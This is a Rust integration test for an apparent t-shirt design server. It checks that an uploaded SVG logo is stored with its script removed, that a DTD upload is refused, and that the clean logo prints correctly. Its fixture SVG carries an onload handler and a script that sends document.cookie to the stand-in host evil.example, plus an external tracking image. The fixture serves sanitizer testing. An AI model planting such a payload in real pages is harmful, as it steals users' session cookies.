//! SVG logos through the real server, on both databases: an upload with a
//! script is accepted with the script gone, kept as its clean copy, and
//! drawn into the 300 DPI print file without a resolution warning.

use crate::helpers::checkout::{TEE, pay_cart};
use crate::helpers::{TestApp, engines};
use design_engine::elements::{ImageAsset, ImageSize};
use design_engine::{Design, ImageElement, PrintArea, Size};
use serde_json::{Value, json};

const LOGO: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" width="300" height="150" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect width="300" height="150" fill="#d00000"/>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
</svg>"##;

#[tokio::test]
async fn an_svg_logo_is_accepted_without_its_script_and_printed_sharp() {
    for engine in engines() {
        let app = TestApp::spawn(engine).await;
        let (token, _) = app.sign_up("asha@example.com").await;
        let admin = app.admin_token().await;
        let sent = design_engine::hash::sha256_hex(LOGO.as_bytes());

        let (status, body) = app
            .put_bytes(
                &format!("/api/artwork/{sent}"),
                &token,
                LOGO.as_bytes().to_vec(),
                "image/svg+xml",
            )
            .await;
        assert_eq!(status, 201, "{body}");
        let info = &body["data"];
        assert_eq!(
            (
                info["mime"].as_str(),
                info["width"].as_i64(),
                info["height"].as_i64()
            ),
            (Some("image/svg+xml"), Some(3600), Some(1800)),
            "{body}"
        );
        let clean = info["sha256"].as_str().unwrap().to_string();
        assert_ne!(clean, sent, "the clean copy has its own name");
        let (status, mime, bytes) = app
            .get_bytes(&format!("/api/artwork/{clean}"), Some(&token))
            .await;
        assert_eq!((status, mime.as_str()), (200, "image/svg+xml"));
        let svg = String::from_utf8(bytes).unwrap();
        for gone in ["script", "onload", "evil", "<image"] {
            assert!(!svg.contains(gone), "{gone} in {svg}");
        }
        assert!(svg.contains("#d00000"), "{svg}");
        // A DTD is refused outright; the same name twice is the same copy.
        let dtd = r#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>"#;
        let name = design_engine::hash::sha256_hex(dtd.as_bytes());
        let (status, body) = app
            .put_bytes(
                &format!("/api/artwork/{name}"),
                &token,
                dtd.as_bytes().to_vec(),
                "image/svg+xml",
            )
            .await;
        assert_eq!(status, 422, "{body}");
        let (status, _) = app
            .put_bytes(
                &format!("/api/artwork/{sent}"),
                &token,
                LOGO.as_bytes().to_vec(),
                "image/svg+xml",
            )
            .await;
        assert_eq!(status, 200);

        // The whole Back covered by the logo: 300 DPI, no warning; the print file is its red.
        let asset: ImageAsset = serde_json::from_value(json!({
            "sha256": clean, "mime": "image/svg+xml", "bytes": info["bytes"], "width": 3600, "height": 1800
        }))
        .unwrap();
        let mut d = Design::new(TEE, "white");
        let mut logo = ImageElement::new(asset, "logo.svg");
        logo.size = ImageSize::new(100, 100).unwrap();
        d.set_image(PrintArea::Back, logo);
        d.set_quantity(Size::M, 25).unwrap();
        let design: Value = serde_json::from_str(&d.to_json()).unwrap();
        let (status, body) = app
            .post_auth("/api/cart/items", &token, json!({"design": design}))
            .await;
        assert_eq!(status, 200, "{body}");
        assert_eq!(
            body["data"]["items"][0]["printWarnings"],
            json!([]),
            "{body}"
        );
        let total = body["data"]["totalPrice"].as_i64().unwrap();
        let order_id = pay_cart(&app, &token, "rcpt_svg", total).await;
        let (status, _, png) = app
            .get_bytes(
                &format!("/api/orders/{order_id}/print-files/1/back"),
                Some(&admin),
            )
            .await;
        assert_eq!(status, 200);
        let back = image::load_from_memory(&png).unwrap().to_rgba8();
        assert_eq!(back.dimensions(), (3600, 4200));
        assert_eq!(back.get_pixel(1800, 2100).0, [0xd0, 0, 0, 255]);
        assert_eq!(
            back.get_pixel(1800, 10).0[3],
            0,
            "the logo keeps its proportions"
        );
    }
}
